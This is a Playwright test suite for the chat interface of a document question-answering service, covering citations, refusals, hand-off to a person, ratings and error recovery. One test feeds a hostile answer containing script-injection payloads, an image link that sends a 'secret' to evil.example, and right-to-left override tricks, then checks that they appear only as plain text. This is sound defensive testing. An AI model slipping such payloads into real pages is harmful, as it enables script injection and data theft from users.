"""The chat: asking, the answer as it arrives, its citations, refusals, a person's answer, what one can do with it."""

import json
import re
import uuid

import pytest
from playwright.sync_api import Locator, Page, Route, expect

from local.stack import users
from local.stack.laptop import Laptop
from tests.support.answer_stream import AnswerStream, answer, citation, claim, source
from tests.support.looking import too_wide
from tests.support.waiting import until
from tests.web.conftest import Heard, Look, Opened, close_message

BOILERS = "How often are the coffee boilers descaled?"
MOON = "What does the moon weigh?"
MANUAL = "Brunata Duo espresso machine"

pytestmark = pytest.mark.usefixtures("samples")


def box(page: Page) -> Locator:
    return page.get_by_role("textbox", name="Your question")


def ask(page: Page, question: str) -> Locator:
    """Ask, and return the place of the answer."""
    box(page).fill(question)
    box(page).press("Enter")
    return page.get_by_role("article", name=f"Answer to: {question}").last


def answered(page: Page, question: str) -> Locator:
    """Ask the service, and return the finished answer."""
    found = ask(page, question)
    expect(found.get_by_role("button", name="Copy with sources")).to_be_visible()
    return found


# --- with the service


def test_an_answer_tells_what_it_was_made_from(open_page: Opened, look: Look) -> None:
    page = open_page("reader")
    found = answered(page, BOILERS)
    found.get_by_role("button", name="How this answer was made").click()
    dialog = page.get_by_role("dialog")
    for part in ("Searched for", BOILERS, "Passages", "Relevance / needed"):
        expect(dialog).to_contain_text(part)
    look(page, "receipt")
    with page.expect_download() as got:
        dialog.get_by_role("button", name="Save the whole receipt").click()
    receipt = json.loads(got.value.path().read_text(encoding="utf-8"))
    assert receipt["question"] == BOILERS
    assert f"receipt-{receipt['message_id']}.json" == got.value.suggested_filename


def test_an_answer_that_may_not_be_read_any_more_says_so(open_page: Opened, laptop: Laptop) -> None:
    with laptop.client(users.READER, streaming=True) as client:
        conversation = client.query("Thank you!")["conversation_id"]
    page = open_page("reader")

    def withhold(route: Route) -> None:
        told = route.fetch().json()
        told["messages"][1] |= {"content": "Not shown.", "citations": [], "claims": [], "withheld": True}
        route.fulfill(json=told)

    page.route(f"**/conversations/{conversation}?*", withhold)
    page.goto(f"{page.url.split('#')[0]}#/c/{conversation}")
    found = page.get_by_role("article", name="Answer to: Thank you!")
    expect(found).to_contain_text("you may no longer read a document that it was made from")
    expect(found.get_by_role("button", name="Answer again")).to_be_visible()
    for name in ("Copy with sources", "A good answer", "How this answer was made"):
        expect(found.get_by_role("button", name=name)).to_have_count(0)


def test_where_a_conversation_cannot_be_opened_nothing_is_asked_but_a_new_one_begun(
    open_page: Opened, heard: Heard
) -> None:
    heard.expected.append("404")
    page = open_page("reader", f"#/c/{'0' * 26}")
    expect(page.get_by_role("alert")).to_contain_text("This does not exist, or it is not yours.")
    expect(box(page)).to_have_count(0)
    page.get_by_role("main").get_by_role("link", name="New chat").click()
    expect(page.get_by_role("region", name="Questions to begin with")).to_be_visible()
    expect(box(page)).to_be_visible()


def test_an_answer_shows_its_sources_and_opens_them(open_page: Opened) -> None:
    page = open_page("reader")
    found = answered(page, BOILERS)
    expect(page).to_have_url(re.compile(r"#/c/\w{26}$"))
    chips = found.get_by_role("button", name=re.compile(rf"^Source 1, {MANUAL}.*, page 5 \(printed 3\), confirmed$"))
    chip = chips.first  # each sentence has one
    chip.focus()
    card = found.get_by_role("group", name="Source")
    for part in (MANUAL, "page 5 (printed 3)", "manual", ".pdf", "citric acid"):
        expect(card).to_contain_text(part, ignore_case=True)
    expect(card).to_contain_text("Confirmed: the quote says this.")
    page.keyboard.press("Escape")
    expect(card).to_be_hidden()
    sources = found.get_by_role("region", name="Sources")
    expect(sources.get_by_role("heading", name="Cited")).to_be_visible()
    sources.get_by_text("Also read, not quoted").click()
    expect(sources.get_by_role("checkbox").nth(1)).to_be_visible()
    chip.click()
    pane = page.get_by_role("complementary").or_(page.get_by_role("region", name=re.compile(MANUAL)))
    expect(pane.first).to_be_visible()
    page.reload()
    expect(page.get_by_role("article").get_by_role("button", name=re.compile("^Source 1, ")).first).to_be_visible()


def test_the_next_question_is_limited_to_the_ticked_documents(open_page: Opened) -> None:
    visitors = "How many visitors did the museum receive?"
    page = open_page("reader")
    found = answered(page, BOILERS)
    found.get_by_role("checkbox", name=re.compile(MANUAL)).first.check()  # other tests upload it, too
    limits = page.get_by_role("list", name="Only in:")
    expect(limits).to_contain_text(MANUAL)
    limited = answered(page, visitors)
    expect(limited).to_contain_text(f"Only in: {MANUAL}")
    expect(limited).not_to_contain_text("86,412")
    limits.get_by_role("button", name=re.compile("^Do not limit")).click()
    expect(limits).to_be_hidden()
    expect(answered(page, visitors)).to_contain_text("86,412")


def test_a_refused_question_goes_to_a_person_who_answers_in_the_conversation(open_page: Opened, laptop: Laptop) -> None:
    page = open_page("reader")
    found = answered(page, MOON)
    expect(found.get_by_role("heading", name="No answer found")).to_be_visible()
    expect(found).to_contain_text("Try other words")
    expect(found.get_by_role("button", name="Show how near it came")).to_be_hidden()
    found.get_by_role("button", name="Ask a person").click()
    page.get_by_role("dialog").get_by_label("What should they know?").fill("For a school trip.")
    with page.expect_response(re.compile(r"/handoff$")) as opened:
        page.get_by_role("dialog").get_by_role("button", name="Ask", exact=True).click()
    expect(page.get_by_text("A person has been asked")).to_be_visible()
    handoff = opened.value.json()
    page.reload()
    expect(page.get_by_text("A person has been asked")).to_be_visible()
    with laptop.client(users.AGENT, streaming=True) as agent:
        agent.request("POST", f"/handoffs/{handoff['handoff_id']}/claim")
        answer_text = "About 7.3 × 10²² kg."
        agent.request("POST", f"/handoffs/{handoff['handoff_id']}/resolve", json={"answer": answer_text})
    page.evaluate("() => dispatchEvent(new Event('focus'))")
    person = page.get_by_role("article", name="Answered by a person")
    expect(person).to_contain_text(answer_text)
    expect(page.get_by_text("A person has been asked")).to_be_hidden()


def test_a_refusal_shows_every_reader_where_to_look(open_page: Opened, look: Look, heard: Heard) -> None:
    heard.expected.append("404")  # the made documents are not there when one is opened
    page = open_page("reader")
    stream = AnswerStream(page)
    found = ask(page, "May my grandchildren steam the milk?")
    said = {"mode": "refused", "no_relevant_info": True, "refusal": "no_relevant_info"}
    stream.done(answer("I could not find anything about that.", nearest=[source(1, 4), source(2, 7)], **said))
    near = found.get_by_role("region", name="Nearest in the documents")
    expect(near.get_by_role("listitem")).to_have_count(2)
    expect(near).to_contain_text("page 4")
    expect(found.get_by_role("heading", name="No answer found")).to_be_visible()
    expect(found).to_contain_text("Try other words, or look at what came nearest.")
    look(page, "nearest")
    near.get_by_role("button").first.click()
    expect(page.get_by_role("region", name="Source", exact=True)).to_be_visible()


@pytest.mark.parametrize(
    ("refusal", "why"),
    [
        ("no_relevant_info", "Try other words."),
        ("not_mentioned", "Try other words."),
        ("model_does_not_know", "The passages found were read, but they do not answer this."),
        ("nothing_proven", "No statement could be proven by the passages found, so none is shown."),
    ],
)
def test_a_refusal_says_what_was_found_and_not_what_the_documents_hold(
    open_page: Opened, refusal: str, why: str
) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    found = ask(page, "Who waxes the ballroom floor?")
    stream.done(answer("I could not find it.", mode="extractive", no_relevant_info=True, refusal=refusal))
    expect(found.get_by_role("heading", name="No answer found")).to_be_visible()
    expect(found.get_by_text(why, exact=True)).to_be_visible()
    expect(found.get_by_text("sentences of the documents, word for word")).to_have_count(0)
    expect(page.get_by_role("status").filter(has_text="No answer was found.")).to_have_count(1)


def test_an_answer_in_other_words_than_the_question_says_so(open_page: Opened, look: Look) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    found = ask(page, "can my nan wash the filter?")
    stream.done(answer("Everybody may rinse the baskets.", warnings=["second_look"], band="low"))
    expect(found.get_by_text("The documents say it in other words, if at all")).to_be_visible()
    expect(found).not_to_contain_text("Recto is not sure")
    look(page, "second-look")


@pytest.mark.parametrize(("band", "doubts"), [("low", 1), ("medium", 0), ("none", 0), ("high", 0)])
def test_an_answer_that_may_answer_something_else_says_so_and_only_a_sure_one_has_a_green_line(
    open_page: Opened, look: Look, band: str, doubts: int
) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    found = ask(page, "Do the geese get a day off?")
    said = [claim("The pond is swept on Mondays.", 1), claim("The boats are counted daily.", 2)]
    text = "The pond is swept on Mondays. [1] The boats are counted daily. [2]"
    stream.done(answer(text, [citation(1), citation(2)], said, band=band, confidence=0.006))
    supported = "Both statements are in the sources cited."
    expect(found.get_by_text(supported)).to_be_visible()
    expect(found.locator("p[class*=good]")).to_have_text([supported] if band == "high" else [])
    doubt = "Recto is not sure that this answers your question: check the sources."
    expect(found.get_by_text(doubt)).to_have_count(doubts)
    expect(page.get_by_role("status").filter(has_text="The answer is there")).to_have_count(1)
    if doubts:
        assert found.inner_text().index(doubt) < found.inner_text().index(supported)
        expect(page.get_by_role("status").filter(has_text=doubt)).to_have_count(1)
    look(page, f"supported-{band}")


@pytest.mark.parametrize(("locale", "told"), [("en-GB", "The answer is there."), ("lt-LT", "Atsakymas gautas.")])
def test_an_answer_of_the_service_itself_has_no_statements_to_count_and_needs_no_person(
    open_page: Opened, look: Look, locale: str, told: str
) -> None:
    page = open_page("reader", locale=locale)
    stream = AnswerStream(page)
    page.get_by_role("textbox").last.fill("Hello!")
    page.keyboard.press("Enter")
    stream.done(answer("Hello! Ask about the documents.", mode="service", message_id=f"{1:026d}"))
    expect(page.get_by_role("status").get_by_text(told, exact=True)).to_have_count(1)
    expect(page.get_by_role("button", name=re.compile("Copy with sources|Kopijuoti su šaltiniais"))).to_be_visible()
    expect(page.get_by_role("button", name=re.compile("^(Ask a person|Klausti žmogaus)$"))).to_have_count(0)
    look(page, f"service-{locale}")


def test_a_stored_answer_is_doubted_as_it_was(open_page: Opened, laptop: Laptop) -> None:
    with laptop.client(users.READER, streaming=True) as client:
        conversation = client.query(BOILERS)["conversation_id"]
    page = open_page("reader")

    def doubtful(route: Route) -> None:
        told = route.fetch().json()
        assert told["messages"][1]["band"] in {"high", "medium", "low"}
        told["messages"][1]["band"] = "low"
        route.fulfill(json=told)

    page.route(f"**/conversations/{conversation}?*", doubtful)
    page.goto(f"{page.url.split('#')[0]}#/c/{conversation}")
    expect(page.get_by_role("article")).to_contain_text("Recto is not sure that this answers your question")


def test_editors_see_what_came_nearest(open_page: Opened) -> None:
    page = open_page("editor")
    found = answered(page, MOON)
    found.get_by_role("button", name="Show how near it came").click()
    near = found.get_by_role("region", name="Near misses")
    expect(near).to_contain_text("an answer needs 35%")
    expect(near.get_by_role("listitem")).to_have_count(3)


def test_an_answer_is_rated_and_the_rating_kept(open_page: Opened) -> None:
    page = open_page("reader")
    found = answered(page, BOILERS)
    down = found.get_by_role("button", name="Not a good answer")
    down.click()
    expect(down).to_have_attribute("aria-pressed", "true")
    found.get_by_role("radio", name="Incomplete").check()
    found.get_by_label("What would have been right?").fill("The steam boiler is missing.")
    found.get_by_role("button", name="Send").click()
    expect(page.get_by_text("Thank you. Editors read this.")).to_be_visible()
    page.reload()
    expect(down).to_have_attribute("aria-pressed", "true")
    down.click()
    expect(down).to_have_attribute("aria-pressed", "false")


def test_a_rating_whose_reason_is_cancelled_is_taken_back(open_page: Opened) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    kept: list[str | None] = []

    def rate(route: Route) -> None:
        sent = json.loads(route.request.post_data or "{}")
        kept.append(sent.get("rating"))
        if sent:
            route.fulfill(json={"reason": None, "comment": "", "updated_at": "2026-11-28T09:00:00Z", **sent})
        else:
            route.fulfill(status=204)

    page.route("**/messages/*/feedback", rate)
    found = ask(page, BOILERS)
    stream.done(answer("Every year."))
    up = found.get_by_role("button", name="A good answer", exact=True)
    down = found.get_by_role("button", name="Not a good answer")
    down.click()
    found.get_by_role("button", name="Cancel").click()
    expect(down).to_have_attribute("aria-pressed", "false")
    expect(page.get_by_text("Taken back.")).to_be_visible()
    expect(found.get_by_text("What is wrong with it?")).to_be_hidden()
    up.click()
    expect(up).to_have_attribute("aria-pressed", "true")
    down.click()
    found.get_by_role("button", name="Cancel").click()
    expect(up).to_have_attribute("aria-pressed", "true")
    expect(down).to_have_attribute("aria-pressed", "false")
    assert kept == ["down", None, "up", "down", "up"]


def test_an_answer_is_copied_with_its_sources(open_page: Opened) -> None:
    page = open_page("reader", permissions=["clipboard-read", "clipboard-write"])
    answered(page, BOILERS).get_by_role("button", name="Copy with sources").click()
    expect(page.get_by_text("Copied with its sources.")).to_be_visible()
    copied = page.evaluate("() => navigator.clipboard.readText()")
    assert copied.startswith("The coffee boilers are descaled every 12 months")
    assert "[1] Brunata Duo espresso machine: Maintenance manual for models BD-2 and BD-3, page 5 (printed 3)" in copied
    assert "“The coffee boilers are descaled every 12 months with citric acid" in copied


def test_a_question_is_asked_anew_edited_and_taken_up_again(open_page: Opened) -> None:
    page = open_page("reader")
    found = answered(page, BOILERS)
    stream = AnswerStream(page)
    found.get_by_role("button", name="Answer again").click()
    stream.done(answer("Every year."))
    expect(page.get_by_role("article")).to_have_count(2)
    assert stream.asked == [{"question": BOILERS, "fresh": True}]
    found.first.get_by_role("button", name="Edit the question").first.click()
    expect(box(page)).to_have_value(BOILERS)
    box(page).fill("")
    box(page).press("ArrowUp")
    expect(box(page)).to_have_value(BOILERS)


def test_three_questions_about_the_documents_are_offered_and_answered(open_page: Opened) -> None:
    page = open_page("reader")
    examples = page.get_by_role("region", name="Questions to begin with").get_by_role("button")
    expect(examples).to_have_count(3)
    question = examples.first.inner_text()
    examples.first.click()
    found = page.get_by_role("article", name=f"Answer to: {question}")
    expect(found.get_by_role("button", name="Copy with sources")).to_be_visible()
    expect(found.get_by_role("heading", name="No answer found")).to_be_hidden()


def test_what_is_typed_outlives_a_reload(open_page: Opened) -> None:
    page = open_page("reader")
    box(page).fill("Half a quest")
    box(page).press("Shift+Enter")
    page.reload()
    expect(box(page)).to_have_value("Half a quest\n")


# --- left before the answer had come


def left_amid_an_answer(page: Page, question: str) -> tuple[Locator, AnswerStream]:
    """Ask, reload the page before the answer comes, and return the question's place after that, and its answers."""
    stream = AnswerStream(page)
    found = ask(page, question)
    stream.waits()
    page.reload()
    return found, stream


def test_a_first_question_is_not_lost_with_the_page(open_page: Opened) -> None:
    page = open_page("reader")
    found, stream = left_amid_an_answer(page, BOILERS)
    expect(found).to_contain_text("The answer to this question did not arrive.")
    page.reload()
    found.get_by_role("button", name="Ask again").click()
    stream.done(answer("Every year. [1]", [citation(1)], [claim("Every year.", 1)]))
    expect(found).to_contain_text("Every year.")
    page.goto(page.url.split("#")[0])
    page.reload()
    expect(page.get_by_role("region", name="Questions to begin with")).to_be_visible()
    expect(found).to_have_count(0)


def test_a_first_question_that_was_answered_all_the_same_is_found_with_its_answer(
    open_page: Opened, laptop: Laptop
) -> None:
    question = f"{uuid.uuid4().hex[:8]}: {BOILERS}"
    with laptop.client(users.READER, streaming=True) as client:
        earlier = client.query(question)["conversation_id"]
        page = open_page("reader")
        expect(page.get_by_role("link", name=question)).to_be_visible()
        found, _ = left_amid_an_answer(page, question)
        expect(found).to_contain_text("did not arrive")  # the earlier conversation is another
        saved = client.query(question)["conversation_id"]
        until(
            lambda: client.request("GET", "/conversations?limit=1").json()["conversations"][0]["conversation_id"],
            lambda newest: newest == saved,
            what="the conversation in the list",
        )
    page.reload()
    expect(page).to_have_url(re.compile(f"#/c/{saved}$"))
    expect(found.get_by_role("button", name="Copy with sources")).to_be_visible()
    expect(found.get_by_role("button", name="Ask again")).to_have_count(0)
    assert saved != earlier
    page.get_by_role("link", name="New chat").first.click()
    expect(page.get_by_role("region", name="Questions to begin with")).to_be_visible()


def test_a_follow_up_is_not_lost_with_the_page(open_page: Opened, laptop: Laptop) -> None:
    follow_up = "And with which acid?"
    with laptop.client(users.READER, streaming=True) as client:
        conversation = client.query(BOILERS)["conversation_id"]
        page = open_page("reader", f"#/c/{conversation}")
        expect(page.get_by_role("article", name=f"Answer to: {BOILERS}")).to_be_visible()
        found, _ = left_amid_an_answer(page, follow_up)
        expect(found.get_by_role("button", name="Ask again")).to_be_visible()
        expect(page.get_by_role("article")).to_have_count(2)
        client.query(follow_up, conversation_id=conversation)
    page.reload()
    expect(found.get_by_role("button", name="Copy with sources")).to_be_visible()
    expect(found.get_by_role("button", name="Ask again")).to_have_count(0)
    expect(page.get_by_role("article")).to_have_count(2)


def test_a_new_chat_begins_without_the_question_that_was_stopped(open_page: Opened) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    found = ask(page, BOILERS)
    stream.waits()
    new_chat = page.get_by_role("link", name="New chat").first
    new_chat.click()
    expect(found).to_be_visible()  # its answer is under way
    page.get_by_role("button", name="Stop").click()
    expect(found).to_contain_text("You stopped this answer.")
    new_chat.click()
    expect(found).to_have_count(0)
    expect(page.get_by_role("region", name="Questions to begin with")).to_be_visible()


def test_a_failed_question_is_still_there_after_a_look_at_something_else(open_page: Opened) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    stream.fail_next(503, "unavailable")
    found = ask(page, BOILERS)
    expect(found.get_by_role("alert")).to_contain_text("No answer came")
    new_chat = page.get_by_role("link", name="New chat").first
    with page.context.expect_page() as opened:
        new_chat.click(modifiers=["ControlOrMeta"])
    opened.value.close()
    expect(found).to_be_visible()
    page.get_by_role("link", name="Documents").first.click()
    expect(found).to_be_hidden()
    new_chat.click()
    expect(found.get_by_role("button", name="Try again")).to_be_visible()
    new_chat.click()
    expect(found).to_have_count(0)


def test_what_is_asked_while_an_answer_is_looked_for_is_not_lost(open_page: Opened) -> None:
    page = open_page("reader")
    held: list[Route] = []
    page.route("**/conversations?limit=5", lambda route: held.append(route))
    with page.expect_request("**/conversations?limit=5"):
        found, stream = left_amid_an_answer(page, BOILERS)
    expect(found).to_contain_text("did not arrive")
    stream.fail_next(503, "unavailable")
    other = ask(page, MOON)
    expect(other.get_by_role("alert")).to_contain_text("No answer came")
    now = page.evaluate("() => new Date().toISOString()")
    head = {"conversation_id": "c-1", "title": BOILERS, "created_at": now, "updated_at": now, "message_count": 2}
    headers = {"access-control-allow-origin": "*"}
    with page.expect_response("**/conversations?limit=5"):
        held[0].fulfill(json={"conversations": [head], "next_cursor": ""}, headers=headers)
    page.evaluate("() => new Promise(requestIdleCallback)")
    page.reload()
    expect(other).to_contain_text("did not arrive")


def test_a_deleted_conversation_leaves_no_question_in_the_tab(open_page: Opened, laptop: Laptop) -> None:
    title = f"{uuid.uuid4().hex[:8]}: {BOILERS}"
    with laptop.client(users.READER, streaming=True) as client:
        conversation = client.query(title)["conversation_id"]
    page = open_page("reader", f"#/c/{conversation}")
    expect(page.get_by_role("article")).to_have_count(1)
    left_amid_an_answer(page, MOON)
    kept = f"() => sessionStorage['recto.asked.{conversation}'] ?? null"
    assert MOON in page.evaluate(kept)
    page.get_by_role("button", name=f"Options for “{title}”").first.click()
    page.get_by_role("menuitem", name="Delete").click()
    with page.expect_response(lambda got: got.request.method == "DELETE"):
        close_message(page, f"“{title}” is deleted.")
    assert page.evaluate(kept) is None


# --- with an answer that the test sends itself


def test_progress_is_told_in_words_and_half_a_marker_is_not_shown(open_page: Opened) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    found = ask(page, BOILERS)
    expect(found).to_contain_text("Searching the documents …")
    stream.emit("sources", sources=[source(1, 3), source(1, 4), source(2, 4)])
    expect(found).to_contain_text("Reading 3 passages of 2 documents …")
    stream.emit("citation", **citation(2))
    stream.emit("delta", text="Every year. [2] Then again [")
    expect(found).to_contain_text("Writing; each statement is checked before it appears …")
    expect(found.get_by_role("button", name=re.compile("^Source 1, Handbook 2"))).to_be_visible()
    expect(found).not_to_contain_text("[")
    expect(found).to_contain_text("Checking the next statement against its source …")
    page.keyboard.press("Escape")
    expect(found).to_contain_text("You stopped this answer.")
    assert stream.stopped == 1
    found.get_by_role("button", name="Ask again").click()
    stream.done(answer("Every two years. [1]", [citation(1)], [claim("Every two years.", 1)]))
    expect(found).to_contain_text("Every two years.")
    expect(found).to_contain_text("The statement is in the source cited.")
    told = page.get_by_role("status").filter(has_text="The answer is there: 1 statement, 1 source.")
    expect(told).to_have_count(1)
    assert [each["question"] for each in stream.asked] == [BOILERS, BOILERS]


def test_citations_are_numbered_by_appearance_and_say_in_words_how_well_they_hold(
    open_page: Opened, look: Look
) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    found = ask(page, BOILERS)
    claims = [
        claim("It is cleaned weekly.", 3, 1, derived="7 days = 1 week"),
        claim("It takes an hour.", 2, verdict="unconfirmed"),
    ]
    text = "It is cleaned weekly. [3] [1] It takes an hour (unconfirmed). [2] See [9].\n\n- **Filter**: yearly [1]\n"
    support = {"claims": 3, "confirmed": 1, "unconfirmed": 1, "dropped": 1, "flags": []}
    more = {"support": support, "rewritten": "How is the tank cleaned?", "dropped_citations": 2}
    more["warnings"] = ["hybrid_search_unavailable", "model_refused", "rerank_unavailable"]
    read = [source(3, 5), source(1, 9), source(4, 4)]
    cited = [citation(1), citation(2, title="Guide " + "x" * 200), citation(3)]
    stream.done(answer(text, cited, claims, sources=read, suggestions=["What does it cost?"], cached=True, **more))
    for words in (
        "1 of 2 statements unconfirmed: the quotes are about it, but do not say quite that.",
        "1 statement was left out: it could not be confirmed.",
        "Answered from memory",
        "Searched for: How is the tank cleaned?",
        "A part of the search did not answer",
        "The model that writes answers could not be reached.",
        "2 references were removed",
        "Also read, not quoted: 2 passages",
        "See [9].",
    ):
        expect(found).to_contain_text(words)
    first = found.get_by_role("button", name="Source 1, Handbook 3, page 5 (printed 3), confirmed")
    expect(
        found.get_by_role("button", name=re.compile("^Source 3, Guide x+, page 4 \\(printed 2\\), unconfirmed$"))
    ).to_be_visible()
    first.focus()
    card = found.get_by_role("group", name="Source")
    expect(card).to_contain_text("Calculated: 7 days = 1 week")
    expect(card).to_contain_text("1 of 2")
    look(page, "chat-answer")
    first.focus()
    page.keyboard.press("ArrowRight")
    expect(card).to_contain_text("Handbook 1")
    page.keyboard.press("Escape")
    expect(card).to_be_hidden()
    first.hover()
    expect(card).to_contain_text("Handbook 3")
    page.mouse.move(0, 0)
    expect(card).to_be_hidden()
    found.get_by_role("button", name="What does it cost?").click()
    expect(page.get_by_role("article", name="Answer to: What does it cost?")).to_be_visible()


def test_the_card_of_a_source_stays_in_a_window_as_low_as_one_zoomed_in(open_page: Opened) -> None:
    page = open_page("reader")
    page.set_viewport_size({"width": 700, "height": 450})
    stream = AnswerStream(page)
    found = ask(page, "Which water is used?")
    long = citation(1, quote="Only soft water is used for the boilers. " * 12)
    stream.done(answer("Only soft water is used for the boilers. [1]", [long], [claim("Only soft water.", 1)]))
    found.get_by_role("button", name=re.compile("^Source 1, ")).first.focus()
    card = found.get_by_role("group", name="Source")
    expect(card).to_be_visible()
    place = card.bounding_box()
    assert place is not None
    assert place["y"] >= 0
    assert place["y"] + place["height"] <= 450
    card.get_by_role("button", name="Open at the quote").focus()
    expect(card.get_by_role("button", name="Open at the quote")).to_be_in_viewport()


def test_the_numbers_of_a_list_are_those_of_the_text(open_page: Opened, look: Look) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    found = ask(page, "How does the lease end?")
    stream.done(answer("5. Heating\n7. Ending the lease\n1986. A year\n\nAnd:\n\n3) Keys\n9) Gate"))
    items = found.get_by_role("listitem")
    expect(items).to_have_count(3)
    assert items.evaluate_all("(all) => all.map((each) => each.value)") == [5, 7, 1986]
    expect(found).to_contain_text("3) Keys")
    look(page, "numbers")


HOSTILE = (
    '<img src="https://evil.example/a.png" onerror="document.title=1"> ![p](https://evil.example/p.png?q=secret) '
    "[click](javascript:alert(1)) <script>document.title = 'owned'</script> <iframe src=//evil.example></iframe> "
    "[ref][1] [1]\n\n[1]: https://evil.example/x\n\n> 5 mm\n\n<style>* { display: none }</style>\n\n"
    "\u202eelif.exe\u202c " + "W" * 400 + "\n\n<a href='https://evil.example'>link</a> https://evil.example/auto [1]"
)


def test_a_hostile_answer_is_shown_as_the_text_that_it_is(open_page: Opened) -> None:
    page = open_page("editor")
    page.set_viewport_size({"width": 360, "height": 740})
    stream = AnswerStream(page)
    ask(page, "<b>What</b> \u202egnihtyna?")
    found = page.get_by_role("article", name="Answer to: <b>What</b> gnihtyna?")
    bad = "<img src=x onerror=alert(1)>\u202e.fdp " + "Q" * 300
    hostile = citation(1, title=bad, quote=bad, section=bad, file_name=bad)
    more = {"rewritten": bad, "suggestions": [bad], "sources": [source(1, 3) | {"title": bad}, source(2, 4)]}
    stream.done(answer(HOSTILE, [hostile], [claim("5 mm", 1, derived=bad)], **more))
    expect(found).to_contain_text('<img src="https://evil.example/a.png"')
    expect(found).to_contain_text("<script>document.title = 'owned'</script>")
    expect(found).to_contain_text("> 5 mm")
    chip = found.get_by_role("button", name=re.compile("^Source 1, <img")).first
    chip.focus()
    expect(found.get_by_role("group", name="Source")).to_contain_text("<img src=x onerror=alert(1)>.fdp")
    main = page.get_by_role("main")
    assert main.locator("img, script, iframe, a, style, object, form[action]").count() == 0
    assert main.evaluate("(main) => /[\\u202a-\\u202e\\u2066-\\u2069]/.test(main.textContent)") is False
    assert page.title() != "owned"
    assert too_wide(page) == []
    assert main.evaluate("(main) => main.scrollWidth - main.clientWidth") == 0


def test_a_failed_question_says_what_to_do_and_is_asked_again(open_page: Opened, heard: Heard) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    stream.fail_next(503, "unavailable")
    found = ask(page, BOILERS)
    alert = found.get_by_role("alert")
    expect(alert).to_contain_text("No answer came")
    expect(alert).to_contain_text("Try again in a minute")
    alert.get_by_role("button", name="Try again").click()
    stream.emit("delta", text="Every ye")
    stream.end()  # cut off
    expect(found).to_contain_text("Every ye")
    expect(alert).to_contain_text("cannot be reached")
    alert.get_by_role("button", name="Try again").click()
    stream.done(answer("Every year. [1]", [citation(1)], [claim("Every year.", 1)]))
    expect(found).to_contain_text("Every year.")
    expect(alert).to_be_hidden()


def test_a_question_that_is_refused_is_not_asked_again_but_edited(open_page: Opened) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    stream.fail_next(400, "invalid_request")
    found = ask(page, BOILERS)
    expect(found.get_by_role("alert")).to_contain_text("detail of invalid_request")
    expect(found.get_by_role("button", name="Try again")).to_be_hidden()
    found.get_by_role("button", name="Edit the question").click()
    expect(box(page)).to_have_value(BOILERS)


def test_a_question_that_is_too_long_says_so_where_it_is_written_and_is_not_sent(open_page: Opened, look: Look) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    send = page.get_by_role("button", name="Ask", exact=True)
    told = page.locator("form").get_by_role("status")
    words = "🦆quack-" * 600
    box(page).fill(words[:3_600])
    expect(told).to_be_empty()
    box(page).fill(words[:3_990])
    expect(told).to_have_text("3,990 of 4,000 characters")
    expect(send).to_be_enabled()
    long = words[:4_012]
    box(page).fill(long)
    sentence = "The question is 12 characters too long: 4,000 are allowed. Shorten it, or ask in parts."
    expect(told).to_have_text(sentence)
    expect(box(page)).to_have_accessible_description(sentence)
    expect(send).to_be_disabled()
    box(page).press("Enter")
    expect(box(page)).to_have_value(long)
    assert stream.asked == []
    look(page, "too-long")
    box(page).fill(long[:4_000])
    box(page).press("Enter")
    stream.emit("delta", text="Because.")
    expect(page.get_by_text("Because.")).to_be_in_viewport()


def test_an_answer_goes_on_while_one_looks_at_something_else(open_page: Opened) -> None:
    page = open_page("reader")
    stream = AnswerStream(page)
    found = ask(page, BOILERS)
    stream.emit("delta", text="Every ")
    page.get_by_role("link", name="Documents").first.click()
    expect(found).to_be_hidden()
    stream.emit("delta", text="year.")
    page.get_by_role("link", name="New chat").first.click()
    expect(found).to_contain_text("Every year.")


def test_an_answer_that_comes_at_once_is_shown_from_its_question_on_but_nobody_is_moved_who_reads_elsewhere(
    open_page: Opened,
) -> None:
    page = open_page("reader")
    page.set_viewport_size({"width": 360, "height": 740})
    stream = AnswerStream(page)
    long = answer("\n\n".join(f"The {each}th boiler is descaled every year." for each in range(4, 40)))
    for question in ("What is done first?", "What is done then?"):
        found = ask(page, question)
        stream.done(long)
        expect(found.get_by_text("The 39th boiler")).to_be_attached()
        expect(found.get_by_text(question, exact=True)).to_be_in_viewport()
        expect(found.get_by_text("The 8th boiler")).to_be_in_viewport()
    ask(page, "And at last?")
    stream.emit("sources", sources=[source(1, 3)])
    expect(page.get_by_text("Reading 1 passage of 1 document …")).to_be_in_viewport()
    first = page.get_by_role("article").first.get_by_text("What is done first?")
    first.scroll_into_view_if_needed()
    stream.done(long)
    expect(page.get_by_text("The 39th boiler")).to_have_count(3)
    expect(first).to_be_in_viewport()


def test_the_chat_in_lithuanian(open_page: Opened) -> None:
    page = open_page("reader", locale="lt-LT")
    stream = AnswerStream(page)
    expect(page.get_by_role("heading", name="Ką norėtumėte sužinoti?")).to_be_visible()
    page.get_by_role("textbox", name="Jūsų klausimas").fill("Kada?")
    page.keyboard.press("Enter")
    stream.emit("sources", sources=[source(1, 3), source(1, 4)])
    expect(page.get_by_text("Skaitoma: 2 ištraukos iš 1 dokumento …")).to_be_visible()
    stream.done(answer("Kasmet. [1]", [citation(1)], [claim("Kasmet.", 1)]))
    expect(page.get_by_text("Teiginys yra cituotame šaltinyje.")).to_be_visible()
    expect(
        page.get_by_role("button", name="1 šaltinis, Handbook 1, psl. 3 (išspausdinta 1), patvirtinta")
    ).to_be_visible()


def test_the_chat_looks_well(open_page: Opened, look: Look) -> None:
    page = open_page("editor")
    expect(page.locator("[aria-busy=false]")).to_be_visible()
    look(page, "chat-welcome")
    answered(page, BOILERS)
    answered(page, MOON).get_by_role("button", name="Not a good answer").click()
    look(page, "chat-refusal")
